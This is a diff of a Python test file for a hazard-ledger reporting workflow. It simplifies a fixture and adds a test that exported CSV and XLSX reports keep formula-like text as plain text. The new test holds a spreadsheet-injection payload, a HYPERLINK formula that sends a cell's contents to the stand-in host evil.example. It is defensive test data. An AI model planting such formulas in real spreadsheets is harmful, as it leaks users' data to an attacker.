@@ -9,10 +9,8 @@ from datetime import date
 import pytest
 from openpyxl import load_workbook
 
-from report_scenario import BASE_URL, OPERATOR, Scenario
+from report_scenario import OPERATOR, Scenario
 from workflow.errors import NotFound
-from workflow.escalation import escalate_due
-from workflow.hazards import decide_extension, request_extension
 from workflow.report import UNIT_COLUMNS, build_report
 from workflow.report_files import report_csv, report_xlsx
 
@@ -29,23 +27,7 @@ NUMBERS = ("tasks", "tasks_done", "rectifications", "rectifications_closed", "re
 @pytest.fixture
 def scenario(sessions, calendar):
     """Three hazards: north fixed on time, east fixed after an extension, west left overdue; one sweep."""
-    scenario = Scenario(sessions, calendar).at(2026, 5, 6, 9)
-    scenario.finish_tasks()
-    east = scenario.hazard("east", date(2026, 5, 20), "道口护栏损坏", by="office@example.org")
-    scenario.hazard("west", date(2026, 5, 15), "线路旁堆放杂物", by="office@example.org")
-    north = scenario.hazard("north", date(2026, 5, 20), "警示牌缺失")
-    scenario.at(2026, 5, 12, 10).fix(north)
-    scenario.at(2026, 5, 19, 9)
-    with sessions.begin() as session:
-        escalate_due(session, scenario.clock.now(), calendar, base_url=BASE_URL)
-    head, office = scenario.actor("east@example.org"), scenario.actor("office@example.org")
-    scenario.at(2026, 5, 19, 10)
-    with sessions.begin() as session:
-        extension = request_extension(session, east, by=head, clock=scenario.clock, reason="护栏材料未到货",
-                                      until=date(2026, 5, 29))
-        decide_extension(session, extension.id, by=office, clock=scenario.clock, calendar=calendar, approve=True)
-    scenario.at(2026, 5, 25, 10).fix(east)
-    return scenario.at(2026, 5, 27, 10)
+    return Scenario(sessions, calendar).hazard_month()
 
 
 def report_of(scenario, by=OPERATOR):
@@ -124,6 +106,19 @@ def test_the_xlsx_has_a_sheet_per_table_and_one_row_per_unit(scenario):
     assert {row[1]: row[9].date() for row in ledger[1:]}["东村"] == date(2026, 5, 20), "original deadline, a date"
     assessed = list(book["考核 assessment"].iter_rows(values_only=True))
     assert assessed[0][3] == "会议必须强调 (40)" and len(assessed) == 1 + 3
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_csv_and_the_xlsx(scenario):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    scenario.hazard("north", date(2026, 6, 10), formula)
+    report = report_of(scenario)
+    ledger = list(csv.reader(io.StringIO(report_csv(report, "ledger").decode("utf-8-sig"))))
+    column = ledger[0].index("隐患 hazard")
+    assert "'" + formula in [row[column] for row in ledger[1:]], "Excel reads a leading ' as text"
+    sheet = load_workbook(io.BytesIO(report_xlsx(report)))["隐患台账 ledger"]
+    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
+    typed = [cell for cell in cells if cell.value == formula]
+    assert typed and typed[0].data_type == "s", "the description is a string cell, not a formula"
 
 
 def test_the_report_is_for_the_leading_group_only(scenario):
